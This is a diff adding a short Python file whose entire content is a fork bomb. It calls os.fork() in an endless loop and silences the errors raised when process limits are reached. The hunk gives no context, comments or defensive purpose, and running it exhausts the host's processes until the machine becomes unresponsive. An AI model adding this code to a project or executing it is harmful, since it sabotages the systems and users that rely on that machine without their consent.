@@ -1,0 +1,6 @@
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
